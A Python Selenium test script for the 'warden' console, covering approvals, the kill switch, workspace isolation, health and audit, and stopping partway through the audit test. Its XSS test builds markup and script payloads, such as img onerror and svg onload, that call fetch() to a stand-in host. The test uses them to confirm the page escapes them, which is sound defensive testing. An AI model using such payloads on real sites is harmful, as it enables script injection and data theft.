#!/usr/bin/env python3
"""The console (`GET /console`) in a real browser, against `warden serve`.

Run by infra/console.sh, which builds and starts the server with its seed
(read that script's header for who is who) and hands this script the
server's URL and target/console/accounts.json (passwords and agent keys).

Headless Chromium is driven through chromedriver (selenium); both binaries
are named explicitly, so Selenium Manager never runs (it would try to
download a driver, and the network is closed). Each browser gets a fresh
profile in a temporary directory, removed when it closes, and records its
DevTools performance log (every request the page makes) and its console.

The tests run in order, since later ones build on what earlier ones did
(the audit test looks for the kill switch's events, the network test reads
every request of every test). Each saves
target/console-screenshots/<test>.png, pass or fail, so a reviewer can look.
The last line is the summary; the exit code is non-zero when any failed.
"""

import argparse
import contextlib
import json
import shutil
import signal
import statistics
import sys
import tempfile
import time
import traceback
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

from selenium import webdriver
from selenium.common.exceptions import NoAlertPresentException, TimeoutException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import Select, WebDriverWait

# Exactly the flags of issue 27: CI runs as root (--no-sandbox) on a closed
# network (nothing in the background may try to reach Google).
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
DESKTOP = (1280, 800)
PHONE = (390, 844)
# Issue 27's budget for a page with its data, and for the document itself.
BUDGET_MS = 200.0
# An address of TEST-NET-3 (RFC 5737): nothing answers there, but a request
# to it would show in the network log, which is what the XSS test looks for.
EXFIL = "198.51.100.1"
PAGES = ["approvals", "runs", "agents", "audit", "health", "sessions"]
# The characters the page must show escaped (issue 27 item 4), and how.
INVISIBLES = ["\u202e", "\u2066", "\u200b", "\ufeff", "\u0007"]


def escape(ch):
    """The page's escape of one BMP character: `\\u` and 4 upper-case hex digits."""
    return "\\u%04X" % ord(ch)


class Failure(Exception):
    """A check that did not hold; its message says what was expected."""


def check(condition, message):
    """Fails the current test with `message` unless `condition` holds."""
    if not condition:
        raise Failure(message)


# ------------------------------------------------------------------ the API


class Api:
    """The JSON API through urllib: what a script or another client sees,
    independent of the page under test."""

    def __init__(self, url, accounts):
        self.url = url
        self.accounts = accounts

    def call(self, method, path, body=None, token=None, key=None):
        """`(status, parsed body or None)`; an error status is an answer, not an exception."""
        headers = {"accept": "application/json"}
        if body is not None:
            headers["content-type"] = "application/json"
        if token:
            headers["authorization"] = f"Bearer {token}"
        if key:
            headers["x-api-key"] = key
        data = None if body is None else json.dumps(body).encode()
        request = urllib.request.Request(self.url + path, data=data, method=method, headers=headers)
        try:
            with urllib.request.urlopen(request, timeout=30) as response:
                status, text = response.status, response.read()
        except urllib.error.HTTPError as e:
            status, text = e.code, e.read()
        try:
            return status, json.loads(text) if text else None
        except ValueError:
            return status, None

    def login(self, username):
        """A token pair for `username` (a new login session)."""
        status, body = self.call(
            "POST", "/auth/login", {"username": username, "password": self.accounts["passwords"][username]}
        )
        check(status == 200, f"POST /auth/login as {username}: expected 200, got {status} {body}")
        return body

    def run(self, agent, action, input_):
        """Asks for a run with the agent's own API key, as the agent would."""
        body = {"workspace_id": self.accounts["workspaces"][agent], "action": action, "input": input_}
        return self.call("POST", f"/agents/{agent}/runs", body, key=self.accounts["keys"][agent])

    def propose(self, agent, input_):
        """A `compare_vendors` run of an INTERN agent: always a proposal."""
        status, body = self.run(agent, "compare_vendors", input_)
        check(
            status == 202 and body.get("status") == "AWAITING_APPROVAL",
            f"POST /agents/{agent}/runs: expected 202 AWAITING_APPROVAL, got {status} {body}",
        )
        return body

    def require(self, method, path, token):
        """Calls an admin endpoint that the page needs; a `404` "no such
        endpoint" means the server does not serve it yet: say exactly that."""
        status, body = self.call(method, path, token=token)
        if status == 404 and body and body.get("detail") == "no such endpoint":
            raise Failure(
                f"{method} {path.split('?')[0]} is not served by this warden (404 no such endpoint): "
                "the admin endpoints of API.md 'Admin endpoints' are missing"
            )
        return status, body


def vendors_input(tag):
    """A valid `compare_vendors` input (AGENTS.md), told apart by `tag`."""
    return {
        "needs": [{"sku": f"SKU-{tag}", "quantity": 100, "current_vendor": "vendor-a"}],
        "quotes": [
            {"vendor": "vendor-a", "sku": f"SKU-{tag}", "unit_price_cents": 1000, "min_quantity": 1},
            {"vendor": "vendor-b", "sku": f"SKU-{tag}", "unit_price_cents": 900, "min_quantity": 50},
        ],
    }


RUNWAY_INPUT = {
    "cash_cents": 120000000,
    "as_of": "2026-03-31",
    "months": [{"month": "2026-03", "revenue_cents": 1000000, "expenses_cents": 2000000}],
}

# ----------------------------------------------------------------- browsers


class Browser:
    """One headless Chromium with its own fresh profile, driven through
    chromedriver, with the viewport set exactly through DevTools."""

    def __init__(self, ctx, name, viewport=DESKTOP, mobile=False):
        self.ctx = ctx
        self.name = name
        self.profile = tempfile.mkdtemp(prefix=f"warden-console-{name}-")
        options = webdriver.ChromeOptions()
        options.binary_location = ctx.args.chromium
        for flag in CHROMIUM_FLAGS:
            options.add_argument(flag)
        options.add_argument(f"--user-data-dir={self.profile}")
        options.set_capability("goog:loggingPrefs", {"performance": "ALL", "browser": "ALL"})
        # An alert opened by a payload stays open for the XSS test to see,
        # instead of being dismissed by the next command.
        options.unhandled_prompt_behavior = "ignore"
        try:
            self.driver = webdriver.Chrome(
                service=Service(executable_path=ctx.args.chromedriver), options=options
            )
        except Exception:
            shutil.rmtree(self.profile, ignore_errors=True)
            raise
        ctx.browsers.append(self)
        # Headless Chromium's window size is not its viewport (and differs
        # between versions): set the viewport itself.
        width, height = viewport
        self.driver.execute_cdp_cmd(
            "Emulation.setDeviceMetricsOverride",
            {"width": width, "height": height, "deviceScaleFactor": 3 if mobile else 1, "mobile": mobile},
        )
        if mobile:
            self.driver.execute_cdp_cmd("Emulation.setTouchEmulationEnabled", {"enabled": True, "maxTouchPoints": 5})
        self.requests = []  # every Network.requestWillBeSent: (test, url, headers)
        self.internal = []  # the browser's own pages' chrome:// loads (not the network)
        self.console = []  # every console message: (test, level, text)

    # -- logs

    def drain(self):
        """Moves what the browser logged since the last call into this
        object (WebDriver hands each log entry out once)."""
        test = self.ctx.test
        for entry in self.driver.get_log("performance"):
            message = json.loads(entry["message"])["message"]
            if message.get("method") == "Network.requestWillBeSent":
                params = message["params"]
                request = params["request"]
                # A new browser first shows its own new-tab page, whose
                # chrome:// resources come from the browser itself, not the
                # network, and before the console is opened; a web page
                # cannot load chrome:// URLs at all. Kept apart, counted.
                if all(
                    urllib.parse.urlsplit(u).scheme in ("chrome", "chrome-untrusted")
                    for u in (request["url"], params.get("documentURL", ""))
                ):
                    self.internal.append(request["url"])
                    continue
                self.requests.append((test, request["url"], request.get("headers", {})))
        for entry in self.driver.get_log("browser"):
            self.console.append((test, entry.get("level"), entry.get("message", "")))

    def requests_of(self, test):
        """The URLs requested while `test` ran."""
        self.drain()
        return [url for t, url, _ in self.requests if t == test]

    def bearer(self):
        """The access token the page sent last, read from its request
        headers in the performance log (the page keeps it in memory only)."""
        self.drain()
        for _, _, headers in reversed(self.requests):
            for name, value in headers.items():
                if name.lower() == "authorization" and value.startswith("Bearer "):
                    return value[len("Bearer "):]
        raise Failure(f"{self.name}: no request with Authorization: Bearer in the network log")

    # -- waiting and reading

    def wait(self, condition, what, timeout=10):
        """Waits until `condition(driver)` is truthy; fails naming `what`."""
        try:
            return WebDriverWait(self.driver, timeout, poll_frequency=0.05).until(condition)
        except TimeoutException:
            raise Failure(f"{self.name}: timed out after {timeout} s waiting for {what}") from None

    def find(self, css):
        return self.driver.find_elements(By.CSS_SELECTOR, css)

    def one(self, css, timeout=10):
        """The first element matching `css`, waiting for it to appear."""
        return self.wait(lambda d: (d.find_elements(By.CSS_SELECTOR, css) or [None])[0], css, timeout)

    def js(self, script, *args):
        return self.driver.execute_script(script, *args)

    def text(self, element):
        """An element's exact text (textContent: no layout, no trimming)."""
        return self.js("return arguments[0].textContent", element)

    def click(self, element):
        """Scrolls `element` into view and clicks it (as a person would)."""
        self.js("arguments[0].scrollIntoView({block: 'center'})", element)
        element.click()

    # -- the console

    def open(self):
        """Loads the page and waits for its script to have started."""
        self.driver.get(self.ctx.url + "/console")
        self.one("body[data-ready=true]")

    def sign_in(self, username):
        """Signs in through the form, and waits for the first page's data."""
        self.open()
        self.one("#signin-username").send_keys(username)
        self.one("#signin-password").send_keys(self.ctx.accounts["passwords"][username])
        self.click(self.one("#signin-submit"))
        outcome = self.one("body[data-signed-in=true], #signin-error:not([hidden])")
        if outcome.tag_name != "body":
            raise Failure(f"{self.name}: signing in as {username} failed: {self.text(outcome)!r}")
        self.one("section.page:not([hidden])[data-state=loaded]")

    def mark_stale(self, page):
        """Marks the page's section stale, so that waiting for `loaded`
        waits for the load that the next action starts, not an old one."""
        self.js("document.getElementById(arguments[0]).dataset.state = 'stale'", f"page-{page}")

    def wait_loaded(self, page, timeout=10):
        return self.one(f"section#page-{page}[data-state=loaded]", timeout)

    def goto(self, page):
        """Shows `page` through its link in the navigation bar; waits for its data."""
        if self.js("return location.hash") == f"#{page}":
            # The link to the current page changes no hash, so loads
            # nothing: leave it first (an unknown page shows nothing).
            self.js("location.hash = 'none'")
        self.mark_stale(page)
        self.click(self.one(f"nav a[data-page={page}]"))
        return self.wait_loaded(page)

    def filter_runs(self, kind, status):
        """Shows the runs or tool calls of the first workspace with `status`
        through the form of the Runs page."""
        Select(self.one("#runs-kind")).select_by_value(kind)
        Select(self.one("#runs-status")).select_by_value(status)
        self.mark_stale("runs")
        self.click(self.one("#runs-form button[type=submit]"))
        return self.wait_loaded("runs")

    def load_ms(self, page):
        return float(self.one(f"section#page-{page}").get_attribute("data-load-ms"))

    def no_overflow(self, page):
        """Fails unless the document is no wider than the viewport. With
        mobile emulation the layout viewport widens to content that
        overflows (window.innerWidth grows with it), so the document is
        also held to the emulated screen's width."""
        scroll, inner = self.js("return [document.documentElement.scrollWidth, window.innerWidth]")
        screen = PHONE[0]
        if scroll > inner or scroll > screen or inner > screen:
            wide = self.js(
                "return [...document.querySelectorAll('main *')]"
                ".filter((e) => e.scrollWidth > e.clientWidth + 1 && getComputedStyle(e).overflowX === 'visible')"
                ".slice(-3).map((e) => e.tagName.toLowerCase() + '.' + e.className + ': ' + e.textContent.slice(0, 40))"
            )
            raise Failure(
                f"{page}: the document is {scroll} px wide, window.innerWidth {inner} px, "
                f"on a {screen} px screen; overflowing: {wide}"
            )
        print(f"    {page}: scrollWidth {scroll} <= innerWidth {inner} = {screen}")

    def screenshot(self, name):
        self.driver.save_screenshot(str(Path(self.ctx.args.screenshots) / f"{name}.png"))
        self.ctx.saved.add(name)

    def close(self):
        """Keeps its logs, quits Chromium and its driver, removes the profile."""
        try:
            self.drain()
        except Exception:  # a crashed browser has no logs left to give
            pass
        try:
            self.driver.quit()
        finally:
            shutil.rmtree(self.profile, ignore_errors=True)
            self.ctx.open_browsers.discard(self)


class Context:
    """What the tests share: the API, the browsers, and what earlier tests
    made (proposals, jobs) for later ones to look for."""

    def __init__(self, args):
        self.args = args
        self.url = args.url.rstrip("/")
        self.netloc = urllib.parse.urlsplit(self.url).netloc
        self.accounts = json.loads(Path(args.accounts).read_text())
        self.api = Api(self.url, self.accounts)
        self.browsers = []  # every browser started, closed or not (for their logs)
        self.open_browsers = set()
        self.test = None
        self.shown = None  # the browser whose screen the current test shows
        self.made = {}
        self.saved = set()  # the screenshots taken
        self.kept = {}  # the browsers kept across tests, by name

    def browser(self, name, **kwargs):
        """A new browser, which the current test's screenshot will show."""
        b = Browser(self, name, **kwargs)
        self.open_browsers.add(b)
        self.shown = b
        return b

    @contextlib.contextmanager
    def own_browser(self, name, **kwargs):
        """A browser for one test only: closed at its end, after a
        screenshot named after the test if the test failed."""
        b = self.browser(name, **kwargs)
        try:
            yield b
        except BaseException:
            with contextlib.suppress(Exception):
                b.screenshot(self.test)
            raise
        finally:
            b.close()

    def signed_in(self, name, username):
        """The browser kept signed in as `username` across tests (the
        approver's, the admin's): made and signed in on first use, so that
        a test still runs when the one that made it failed early."""
        b = self.kept.get(name)
        if b is None or b not in self.open_browsers:
            b = self.kept[name] = self.browser(name)
            b.sign_in(username)
        self.shown = b
        return b

    def need(self, what):
        """What an earlier test made; a clear failure if it made nothing."""
        if what not in self.made:
            raise Failure(f"this test needs the {what!r} proposal, which an earlier test failed to make")
        return self.made[what]

    def close_all(self):
        for b in list(self.open_browsers):
            b.close()


# -------------------------------------------------------------------- tests


def test_headers(ctx):
    """The page and each asset carry the security headers of issue 27 item 4."""
    for path in ["/console", "/console/console.js", "/console/console.css", "/console/icon.svg"]:
        with urllib.request.urlopen(ctx.url + path, timeout=10) as response:
            check(response.status == 200, f"GET {path}: {response.status}")
            headers = response.headers
        csp = headers.get("content-security-policy") or ""
        check(csp, f"GET {path}: no Content-Security-Policy")
        check("unsafe-inline" not in csp and "unsafe-eval" not in csp, f"GET {path}: CSP allows unsafe code: {csp}")
        directives = {d.strip().split(" ")[0]: d.strip() for d in csp.split(";") if d.strip()}
        check(directives.get("frame-ancestors") == "frame-ancestors 'none'", f"GET {path}: CSP {csp}")
        check(directives.get("script-src") == "script-src 'self'", f"GET {path}: script-src is not 'self' only: {csp}")
        check(headers.get("x-content-type-options") == "nosniff", f"GET {path}: X-Content-Type-Options")
        check(headers.get("referrer-policy") == "no-referrer", f"GET {path}: Referrer-Policy")
        print(f"    {path}: {headers.get('content-type')}; CSP and headers as required")
    # A name that is no asset: a problem, with the same headers.
    try:
        urllib.request.urlopen(ctx.url + "/console/nothing.js", timeout=10)
        raise Failure("GET /console/nothing.js answered 200")
    except urllib.error.HTTPError as e:
        check(e.code == 404, f"GET /console/nothing.js: {e.code}")
        check("frame-ancestors 'none'" in (e.headers.get("content-security-policy") or ""), "a 404 has no CSP")
        check(e.headers.get("x-content-type-options") == "nosniff", "a 404 has no nosniff")
    # The screenshot: the sign-in form, as a first visitor sees it.
    with ctx.own_browser("visitor") as b:
        b.open()
        width, height = b.js("return [window.innerWidth, window.innerHeight]")
        check((width, height) == DESKTOP, f"viewport is {width}x{height}, expected {DESKTOP}")
        b.screenshot("headers")


def test_approve(ctx):
    """The approver approves a pending proposal through the confirmation
    dialog, which repeats its input, and sees its job reach SUCCESS."""
    made = ctx.api.propose("buyer-a", vendors_input("APPROVE"))
    ctx.made["approved"] = made
    # The canonical input as the API lists it, pretty-printed as the page
    # promises to (two spaces, members in the server's order).
    token = ctx.api.login("approver-a")["access_token"]
    status, listing = ctx.api.call("GET", "/agents/proposals?status=PENDING&limit=100", token=token)
    check(status == 200, f"GET /agents/proposals: {status} {listing}")
    listed = [p for p in listing["proposals"] if p["proposal_id"] == made["proposal_id"]]
    check(listed, "the API does not list the new proposal")
    expected = json.dumps(listed[0]["input"], indent=2, ensure_ascii=False)

    b = ctx.signed_in("approver", "approver-a")
    check(b.js("return location.hash") == "#approvals", "an approver does not start on the approvals page")
    b.wait_loaded("approvals")
    width, height = b.js("return [window.innerWidth, window.innerHeight]")
    check((width, height) == DESKTOP, f"viewport is {width}x{height}, expected {DESKTOP}")
    card = b.one(f"#pending article.proposal[data-proposal-id='{made['proposal_id']}'][data-status=PENDING]")
    card_text = b.text(card)
    for fact in ["buyer-a", "INTERN", "alpha", "compare_vendors", listed[0]["requested_by"]]:
        check(fact in card_text, f"the proposal's card does not show {fact!r}")
    shown = b.text(card.find_element(By.CSS_SELECTOR, "pre.json"))
    check(shown == expected, f"the card's input is not the canonical input:\n{shown}\n!=\n{expected}")

    b.click(card.find_element(By.CSS_SELECTOR, "button.approve"))
    dialog = b.one("dialog#confirm[open]")
    summary = b.text(b.one("#confirm-summary"))
    check("buyer-a" in summary and "compare_vendors" in summary, "the dialog does not say who runs what")
    repeated = b.text(b.one("#confirm-summary pre.json"))
    check(repeated == expected, f"the dialog does not repeat the input exactly:\n{repeated}")
    b.screenshot("approve-dialog")
    b.mark_stale("approvals")
    b.click(b.one("#confirm-ok"))
    b.wait(lambda d: not dialog.get_attribute("open"), "the dialog to close")
    b.wait_loaded("approvals")
    b.one(f"#decided article.proposal[data-proposal-id='{made['proposal_id']}'][data-status=APPROVED]")
    notice = b.text(b.one("#notice"))
    check(made["job_id"] in notice, f"the notice does not name the job: {notice!r}")

    b.goto("runs")
    b.click(b.one(f"tr.run[data-job-id='{made['job_id']}']"))
    detail = b.one(f"#run-detail[data-job-id='{made['job_id']}'][data-status=SUCCESS]", timeout=30)
    check("total_saving_cents" in b.text(detail), "the job's result is not shown")
    status, job = ctx.api.call("GET", f"/agents/runs/{made['job_id']}", token=token)
    check(status == 200 and job["status"] == "SUCCESS", f"the API says the job is {job}")
    b.screenshot("approve")
    # The status filter: the job is among the successes, not the failures.
    b.filter_runs("runs", "SUCCESS")
    b.one(f"tr.run[data-job-id='{made['job_id']}']")
    statuses = {b.text(r.find_element(By.CSS_SELECTOR, ".status")) for r in b.find("tr.run")}
    check(statuses == {"SUCCESS"}, f"filtered on SUCCESS, the runs page shows {statuses}")
    b.filter_runs("runs", "FAILED")
    check(not b.find(f"tr.run[data-job-id='{made['job_id']}']"), "filtered on FAILED, the job is listed")
    b.filter_runs("runs", "")


def test_reject(ctx):
    """The approver rejects another proposal with a reason; it shows under
    "Decided" as REJECTED with that reason, and its job is REJECTED."""
    made = ctx.api.propose("buyer-a", vendors_input("REJECT"))
    ctx.made["rejected"] = made
    reason = "Vendor list is out of date; ask again next week"
    b = ctx.signed_in("approver", "approver-a")
    b.goto("approvals")
    card = b.one(f"#pending article.proposal[data-proposal-id='{made['proposal_id']}']")
    b.click(card.find_element(By.CSS_SELECTOR, "button.reject"))
    dialog = b.one("dialog#confirm[open]")
    check("SKU-REJECT" in b.text(b.one("#confirm-summary")), "the dialog does not repeat the input")
    b.one("#confirm-reason").send_keys(reason)
    b.mark_stale("approvals")
    b.click(b.one("#confirm-ok"))
    b.wait(lambda d: not dialog.get_attribute("open"), "the dialog to close")
    b.wait_loaded("approvals")
    decided = b.one(f"#decided article.proposal[data-proposal-id='{made['proposal_id']}'][data-status=REJECTED]")
    check(reason in b.text(decided), "the rejected proposal does not show its reason")
    check(
        not b.find(f"#pending article.proposal[data-proposal-id='{made['proposal_id']}']"),
        "the rejected proposal is still pending",
    )
    token = ctx.api.login("approver-a")["access_token"]
    status, job = ctx.api.call("GET", f"/agents/runs/{made['job_id']}", token=token)
    check(status == 200 and job["status"] == "REJECTED", f"the API says the job is {job}")
    b.js("arguments[0].scrollIntoView({block: 'center'})", decided)
    b.screenshot("reject")


def toggle_agent(b, agent, verb, reason):
    """Disables or enables `agent` on the Agents page, through the dialog."""
    row = b.one(f"tr.agent[data-agent-id='{agent}']")
    b.click(row.find_element(By.CSS_SELECTOR, f"button.{verb}"))
    dialog = b.one("dialog#confirm[open]")
    check(agent in b.text(b.one("#confirm-summary")), f"the {verb} dialog does not name {agent}")
    if reason:
        b.one("#confirm-reason").send_keys(reason)
    b.mark_stale("agents")
    b.click(b.one("#confirm-ok"))
    b.wait(lambda d: not dialog.get_attribute("open"), "the dialog to close")
    b.wait_loaded("agents")
    enabled = "false" if verb == "disable" else "true"
    b.one(f"tr.agent[data-agent-id='{agent}'][data-enabled={enabled}]")


def test_kill_switch(ctx):
    """The admin disables an agent on the Agents page (confirmed); its next
    run is refused 403; enabled again, it runs."""
    admin = ctx.api.login("console-admin")["access_token"]
    ctx.api.require("GET", "/agents", admin)
    b = ctx.signed_in("admin", "console-admin")
    b.goto("agents")
    for agent in ["buyer-a", "planner-a", "buyer-b"]:
        b.one(f"tr.agent[data-agent-id='{agent}'][data-enabled=true]")

    status, body = ctx.api.run("planner-a", "cash_runway", RUNWAY_INPUT)
    check(status == 202 and body["status"] == "PENDING", f"planner-a's run before: {status} {body}")
    toggle_agent(b, "planner-a", "disable", "console test: kill switch")
    b.screenshot("kill_switch-disabled")
    status, body = ctx.api.run("planner-a", "cash_runway", RUNWAY_INPUT)
    check(status == 403, f"a run of the disabled agent answered {status} {body}, expected 403")
    print(f"    disabled planner-a's run: 403 {body.get('detail')!r}")

    toggle_agent(b, "planner-a", "enable", None)
    status, body = ctx.api.run("planner-a", "cash_runway", RUNWAY_INPUT)
    check(status == 202 and body["status"] == "PENDING", f"planner-a's run after enabling: {status} {body}")
    b.screenshot("kill_switch")


def xss_inputs():
    """Inputs whose strings are markup, script and invisible characters;
    each payload tries to call out, so a failure shows in the network log."""
    img = f"<img src=x onerror=\"fetch('http://{EXFIL}/img');alert('img')\">"
    script = f"</script><script>fetch('http://{EXFIL}/script');alert('script')</script>"
    svg = f"\"><svg onload=\"fetch('http://{EXFIL}/svg');alert('svg')\">"
    link = f"javascript:fetch('http://{EXFIL}/js');alert('js')"
    remote = f"<img src=http://{EXFIL}/remote>"
    hidden = "pay" + "".join(f"{ch}{k}" for k, ch in enumerate(INVISIBLES))
    run = {
        "needs": [
            {"sku": img, "quantity": 1, "current_vendor": script},
            {"sku": svg, "quantity": 2, "current_vendor": hidden},
        ],
        "quotes": [
            {"vendor": link, "sku": img, "unit_price_cents": 100, "min_quantity": 1},
            {"vendor": remote, "sku": svg, "unit_price_cents": 200, "min_quantity": 1},
        ],
    }
    # A tool call's arguments are free JSON: the payloads go in the member
    # names too.
    tool = {img: script, "note" + INVISIBLES[0]: hidden, "href": link, svg: [remote]}
    return run, tool, [img, script, svg, link, remote], hidden


def check_no_payload_ran(ctx, b, where):
    """No alert, no element made by a payload, no request off the server."""
    time.sleep(0.5)  # an onerror or onload would have fired by now
    try:
        alert = b.driver.switch_to.alert
        text = alert.text
        alert.dismiss()
        raise Failure(f"{where}: an alert opened: {text!r}")
    except NoAlertPresentException:
        pass
    made = b.js(
        "return [...document.querySelectorAll("
        "'img[src=x], img[src*=\"" + EXFIL + "\"], #page-approvals svg, #page-runs svg, dialog svg, "
        "[onerror], [onload], [href^=javascript], script:not([src])'"
        ")].map((e) => e.outerHTML.slice(0, 120))"
    )
    check(not made, f"{where}: elements made by a payload: {made}")
    off = [u for u in b.requests_of(ctx.test) if not on_server(ctx, u)]
    check(not off, f"{where}: requests to another host: {off}")
    # A request the CSP blocked never reaches the network log, but the
    # attempt is reported on the console: a payload ran.
    blocked = [text for t, _, text in b.console if t == ctx.test and csp_violation(text)]
    check(not blocked, f"{where}: the CSP blocked what a payload tried: {blocked}")


def check_shown_as_text(b, card, payloads, hidden):
    """The card's input shows every payload as text and every invisible
    character as its escape, highlighted, with the warning."""
    pre = card.find_element(By.CSS_SELECTOR, "pre.json")
    text = b.text(pre)
    for payload in payloads:
        # As a JSON string literal: `"` and `\` escaped, nothing else.
        literal = json.dumps(payload, ensure_ascii=False)[1:-1]
        check(literal in text, f"the input does not show {literal!r} as text")
    check("<img" in b.js("return arguments[0].innerText", pre), "the literal <img is not visible")
    check(not any(ch in text for ch in INVISIBLES), "an invisible character is shown raw")
    visible = "pay" + "".join(f"{escape(ch)}{k}" for k, ch in enumerate(INVISIBLES))
    check(visible in text, f"the invisible characters are not escaped: expected {visible!r} in the input")
    escapes = [b.text(s) for s in pre.find_elements(By.CSS_SELECTOR, "span.invisible")]
    for ch in INVISIBLES:
        check(escape(ch) in escapes, f"{escape(ch)} is not in a span.invisible (found {escapes})")
    warning = card.find_elements(By.CSS_SELECTOR, ".invisible-warning")
    check(warning and "contains invisible characters" in b.text(warning[0]), "no 'contains invisible characters' warning")
    check(hidden not in text, "the raw string is in the page")


def test_xss(ctx):
    """Markup, script, `javascript:` and invisible characters in a run's
    input and a tool call's arguments are shown as text and run nothing:
    on the approvals page, in the confirmation dialog and in a job's result."""
    run_input, tool_arguments, payloads, hidden = xss_inputs()
    shown_run = ctx.api.propose("buyer-a", run_input)
    approved = ctx.api.propose("buyer-a", dict(run_input, needs=run_input["needs"][:1] + [
        dict(run_input["needs"][1], quantity=3)]))
    ctx.made["xss"] = shown_run
    status, call = ctx.api.call(
        "POST", "/agents/buyer-a/tool-calls",
        {"workspace_id": "alpha", "tool": "pay_invoice", "arguments": tool_arguments},
        key=ctx.accounts["keys"]["buyer-a"],
    )
    check(status == 202 and call.get("proposal_id"), f"the tool call answered {status} {call}")

    b = ctx.signed_in("approver", "approver-a")
    b.goto("approvals")
    card = b.one(f"#pending article.proposal[data-proposal-id='{shown_run['proposal_id']}']")
    check_shown_as_text(b, card, payloads, hidden)
    tool_card = b.one(f"#pending article.proposal[data-proposal-id='{call['proposal_id']}'][data-kind=tool_call]")
    check_shown_as_text(b, tool_card, payloads, hidden)
    check_no_payload_ran(ctx, b, "approvals page")

    # The dialog renders the input again, from the same data.
    other = b.one(f"#pending article.proposal[data-proposal-id='{approved['proposal_id']}']")
    b.click(other.find_element(By.CSS_SELECTOR, "button.approve"))
    dialog = b.one("dialog#confirm[open]")
    check_shown_as_text(b, b.one("#confirm-summary"), payloads, hidden)
    check_no_payload_ran(ctx, b, "confirmation dialog")
    b.mark_stale("approvals")
    b.click(b.one("#confirm-ok"))
    b.wait(lambda d: not dialog.get_attribute("open"), "the dialog to close")
    b.wait_loaded("approvals")

    # The job's result quotes the skus and vendors back.
    b.goto("runs")
    b.click(b.one(f"tr.run[data-job-id='{approved['job_id']}']"))
    detail = b.one(f"#run-detail[data-job-id='{approved['job_id']}'][data-status=SUCCESS]", timeout=30)
    result = b.text(detail.find_element(By.CSS_SELECTOR, ".result pre.json"))
    check(json.dumps(payloads[0], ensure_ascii=False)[1:-1] in result, "the result does not show the <img payload as text")
    check(not any(ch in result for ch in INVISIBLES), "the result shows an invisible character raw")
    check_no_payload_ran(ctx, b, "job result")
    # The tool call waiting for approval, under "Tool calls".
    b.filter_runs("tool-calls", "AWAITING_APPROVAL")
    b.click(b.one(f"tr.tool-call[data-call-id='{call['call_id']}']"))
    b.one("#run-detail h2")
    check(call["call_id"] in b.text(b.one("#run-detail")), "the tool call's detail does not show")
    check_no_payload_ran(ctx, b, "tool calls")
    b.filter_runs("runs", "")

    b.goto("approvals")
    card = b.one(f"#pending article.proposal[data-proposal-id='{shown_run['proposal_id']}']")
    b.js("arguments[0].scrollIntoView({block: 'start'})", card)
    b.screenshot("xss")
    print(f"    {len(b.requests_of(ctx.test))} requests during the test, all to {ctx.netloc}")
    b.close()


def test_isolation(ctx):
    """A user of workspace beta sees no proposal or run of alpha, on the
    page and through the API with the page's own token."""
    with ctx.own_browser("beta") as b:
        b.sign_in("approver-b")
        b.wait_loaded("approvals")
        check(b.find("#pending #no-pending"), "the approvals page of beta's approver is not empty")
        check(not b.find("article.proposal"), "beta's approver sees proposals")
        b.screenshot("isolation-approvals")

        b.goto("runs")
        workspaces = b.js("return [...document.querySelectorAll('#runs-workspace option')].map((o) => o.value)")
        check(workspaces == ["beta"], f"the runs page offers the workspaces {workspaces}, expected ['beta']")
        check(not b.find("tr.run"), "beta's runs page lists runs")

        token = b.bearer()
        approved = ctx.need("approved")
        for method, path in [
            ("GET", f"/agents/runs/{approved['job_id']}"),
            ("GET", "/agents/runs?workspace_id=alpha"),
            # Already approved: a member would get 409; a stranger 404, first.
            ("POST", f"/agents/proposals/{approved['proposal_id']}/approve"),
            ("POST", f"/agents/proposals/{ctx.need('xss')['proposal_id']}/reject"),
        ]:
            status, body = ctx.api.call(method, path, {} if method == "POST" else None, token=token)
            check(status == 404, f"{method} {path} with beta's token: {status} {body}, expected 404")
        status, body = ctx.api.call("GET", "/agents/proposals?status=PENDING&limit=100", token=token)
        check(status == 200 and body["proposals"] == [], f"beta's pending proposals: {body}")

        # The page does show beta's own: a proposal of buyer-b appears.
        own = ctx.api.propose("buyer-b", vendors_input("BETA"))
        b.goto("approvals")
        cards = b.find("article.proposal")
        ids = [c.get_attribute("data-proposal-id") for c in cards]
        check(ids == [own["proposal_id"]], f"beta's approver sees {ids}, expected only {own['proposal_id']}")
        check("alpha" not in b.text(b.one("#page-approvals")), "workspace alpha is named on beta's page")
        b.screenshot("isolation")


def test_health(ctx):
    """The health report, and the uptime chart with one bar set per bucket
    of the API's answer for each window."""
    admin = ctx.api.login("console-admin")["access_token"]
    buckets = {}
    for window in ["24h", "7d", "30d"]:
        status, body = ctx.api.require("GET", f"/security/health/uptime?window={window}", admin)
        check(status == 200, f"GET /security/health/uptime?window={window}: {status} {body}")
        buckets[window] = len(body["buckets"])
    b = ctx.signed_in("admin", "console-admin")
    b.goto("health")
    status = b.text(b.one("#health-status"))
    check(status in ("ok", "degraded", "failing"), f"the health status reads {status!r}")
    checks = b.find("#health-checks tbody tr.check")
    check(checks, "the health report lists no check")
    for window in ["24h", "7d", "30d"]:
        b.click(b.one(f"#uptime-windows button[data-window='{window}']"))
        chart = b.one(f"svg#uptime-chart[data-window='{window}']")
        b.js("arguments[0].scrollIntoView({block: 'center'})", chart)
        bars = {kind: len(chart.find_elements(By.CSS_SELECTOR, f"rect.bar.{kind}")) for kind in ["up", "down", "unknown"]}
        check(
            set(bars.values()) == {buckets[window]},
            f"{window}: the chart draws {bars} bars, the API has {buckets[window]} buckets",
        )
        b.screenshot(f"health-{window}")
    print(f"    status {status}, {len(checks)} checks; buckets {buckets} (expected 24, 28, 30)")
    b.click(b.one("#uptime-windows button[data-window='24h']"))
    b.js("arguments[0].scrollIntoView({block: 'center'})", b.one("svg#uptime-chart[data-window='24h']"))
    b.screenshot("health")


def test_audit(ctx):
    """The events of the tests before appear (the kill switch, by the
    admin), filtered by type and actor; "Older" pages past the limit."""
    admin = ctx.api.login("console-admin")["access_token"]
    status, page = ctx.api.require("GET", "/audit?since=24h&limit=50", admin)
    check(status == 200, f"GET /audit: {status} {page}")
    # Enough events for a second page: runs of the AUTONOMOUS agent, each
    # audited (requested, then succeeded).
    made = 0
    while page.get("next") is None and made < 100:
        for _ in range(10):
            s, body = ctx.api.run("planner-a", "cash_runway", RUNWAY_INPUT)
            check(s == 202, f"a run to make audit events: {s} {body}")
            made += 1
